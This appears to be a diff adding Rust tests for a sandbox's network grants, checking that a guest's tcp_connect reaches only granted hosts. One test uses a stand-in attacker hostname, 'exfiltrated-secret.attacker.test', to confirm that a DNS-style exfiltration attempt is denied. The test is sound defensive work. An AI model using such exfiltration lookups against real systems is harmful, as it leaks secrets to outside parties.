@@ -40,3 +40,50 @@ async fn a_missing_directory_is_refused_when_preparing() {
     let err = PreparedGrants::prepare(&read("missing"), base.path(), |_| None).await.unwrap_err();
     assert!(matches!(err, GrantError::NotADirectory { .. }), "{err}");
 }
+
+fn net() -> chaos_core::experiment::ComponentRef {
+    chaos_core::experiment::ComponentRef::Builtin("net".into())
+}
+
+async fn net_options(hosts: &[String]) -> CallOptions {
+    let grants = Grants { net: hosts.to_vec(), ..Grants::default() };
+    let prepared = PreparedGrants::prepare(&grants, std::path::Path::new("."), |_| None).await.unwrap();
+    CallOptions { grants: Arc::new(prepared), ..CallOptions::new("t") }
+}
+
+#[tokio::test]
+async fn a_guest_lookup_of_a_granted_name_answers_its_addresses() {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let options = net_options(&[format!("localhost:{port}")]).await;
+    let sandbox = builder().build().unwrap();
+    let component = sandbox.load(&net()).await.unwrap();
+    let out = sandbox.call(&component, "tcp_connect", &json!({"host": "localhost", "port": port}), &options).await;
+    assert_eq!(out.unwrap()["connected"], json!(true));
+}
+
+#[tokio::test]
+async fn a_guest_lookup_of_a_name_not_granted_is_denied() {
+    let options = net_options(&["localhost:9".to_string()]).await;
+    let sandbox = builder().build().unwrap();
+    let component = sandbox.load(&net()).await.unwrap();
+    let err = sandbox
+        .call(&component, "tcp_connect", &json!({"host": "exfiltrated-secret.attacker.test", "port": 9}), &options)
+        .await
+        .unwrap_err();
+    assert!(
+        matches!(err, CallError::CapabilityDenied(ref m) if m.contains("resolving exfiltrated-secret.attacker.test")),
+        "{err}"
+    );
+}
+
+#[tokio::test]
+async fn a_guest_lookup_without_a_net_grant_is_denied() {
+    let sandbox = builder().build().unwrap();
+    let component = sandbox.load(&net()).await.unwrap();
+    let err = sandbox
+        .call(&component, "tcp_connect", &json!({"host": "localhost", "port": 9}), &CallOptions::new("t"))
+        .await
+        .unwrap_err();
+    assert!(matches!(err, CallError::CapabilityDenied(_)), "{err}");
+}
